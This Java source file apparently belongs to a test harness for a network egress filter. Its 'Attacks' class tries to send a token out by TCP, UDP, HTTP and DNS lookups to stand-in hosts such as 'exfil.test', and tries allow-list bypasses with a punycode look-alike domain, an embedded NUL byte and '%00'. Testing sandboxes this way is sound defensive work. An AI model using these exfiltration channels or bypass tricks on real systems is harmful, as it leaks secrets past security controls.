package adversary;

import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.net.URLConnection;
import java.net.UnknownHostException;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.charset.StandardCharsets;

/** What an attack does by the JDK. */
final class Attacks {

  private static final int LIMIT_MS = 1000;
  private static final String ALLOWED = "allowed.test";

  private final String address;
  private final String port;
  private final String token;

  Attacks(String address, String port, String token) {
    this.address = address;
    this.port = port;
    this.token = token;
  }

  String attempt(String way) throws IOException {
    return switch (way) {
      case "first", "socket", "connect" -> socket();
      case "channel" -> channel();
      case "https" -> get("https://" + address + ":" + port + "/dns-query?dns=" + token);
      case "url" -> get("http://" + address + ":" + port + "/" + token);
      case "lookup" -> lookUp(token + ".exfil.test");
      case "look-alike" -> lookUp(token + ".xn--llowed-2nf.test");
      case "nul" -> lookUp(ALLOWED + "\0." + token + ".exfil.test");
      case "percent" -> lookUp(ALLOWED + "%00." + token + ".exfil.test");
      default -> throw new IllegalArgumentException(way);
    };
  }

  private String socket() throws IOException {
    try (Socket socket = new Socket()) {
      socket.connect(new InetSocketAddress(address, Integer.parseInt(port)), LIMIT_MS);
      socket.getOutputStream().write(token.getBytes(StandardCharsets.US_ASCII));
    }
    return "done";
  }

  private String channel() throws IOException {
    try (DatagramChannel channel = DatagramChannel.open()) {
      channel.send(
          ByteBuffer.wrap(token.getBytes(StandardCharsets.US_ASCII)),
          new InetSocketAddress(address, Integer.parseInt(port)));
    }
    return "done";
  }

  private static String get(String url) throws IOException {
    URLConnection connection = URI.create(url).toURL().openConnection();
    connection.setConnectTimeout(LIMIT_MS);
    connection.setReadTimeout(LIMIT_MS);
    return "done: " + ((HttpURLConnection) connection).getResponseCode();
  }

  private static String lookUp(String name) throws UnknownHostException {
    InetAddress found = InetAddress.getByName(name);
    // The C library's names end with a NUL: that is the allowed host, and nobody learns of the
    // rest.
    return found.equals(InetAddress.getByName(ALLOWED))
        ? "refused: read as the allowed name"
        : "done: " + found;
  }
}
